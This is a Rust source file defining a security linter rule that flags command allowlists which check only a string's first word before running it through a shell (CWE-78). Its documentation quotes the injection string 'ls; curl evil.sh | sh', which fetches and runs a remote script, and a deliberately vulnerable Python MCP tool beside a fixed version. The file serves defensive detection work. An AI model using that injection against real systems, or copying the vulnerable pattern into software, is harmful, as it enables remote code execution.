use crate::code::taint::Broken;
use crate::code::taint::HitKind;
use crate::declare_rule;

use super::{Flow, TaintRule};

declare_rule! {
    /// ## What it does
    /// Finds command strings allowed by their first word (`cmd.split()[0] in ALLOWED`,
    /// `cmd.startswith("git ")`) and then run by a shell.
    ///
    /// ## Why is this bad?
    /// `ls; curl evil.sh | sh` starts with `ls`. The shell runs everything after the allowed prefix:
    /// the check allows every command.
    ///
    /// ## Example
    /// ```python
    /// from mcp.server.fastmcp import FastMCP
    ///
    /// mcp = FastMCP("demo")
    ///
    /// ALLOWED = {"ls", "cat", "git"}
    ///
    /// @mcp.tool()
    /// def run(command: str) -> str:
    ///     import subprocess
    ///     if command.split()[0] not in ALLOWED:
    ///         raise ValueError("not allowed")
    ///     return subprocess.run(command, shell=True, capture_output=True, text=True, timeout=10).stdout
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// from mcp.server.fastmcp import FastMCP
    ///
    /// mcp = FastMCP("demo")
    ///
    /// ALLOWED = {"ls", "cat", "git"}
    ///
    /// @mcp.tool()
    /// def run(command: str) -> str:
    ///     import shlex, subprocess
    ///     argv = shlex.split(command)
    ///     if argv[0] not in ALLOWED:
    ///         raise ValueError("not allowed")
    ///     return subprocess.run(argv, capture_output=True, text=True, timeout=10).stdout
    /// ```
    ///
    /// ## References
    /// - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    pub static COMMAND_ALLOWLIST_CHECKS_ONLY_PREFIX = {
        code: "PC117",
        name: "command-allowlist-checks-only-prefix",
        summary: "A command allowlist checks only how a string starts, then hands it to a shell",
        severity: Critical,
        confidence: High,
        cwe: [78],
        target: Code,
    }
}

fn describe(f: &Flow<'_>) -> (String, String) {
    (format!("{} is allowed by how it starts, then run by a shell in `{}`: anything after `;` runs too", f.subject(), f.what), "Split into an argument list, check the program against the allowlist, and run the list without a shell.".to_string())
}

pub(super) static RULE: TaintRule = TaintRule {
    meta: &COMMAND_ALLOWLIST_CHECKS_ONLY_PREFIX,
    kind: HitKind::Broken(Broken::ShellPrefixAllowlist),
    describe,
};
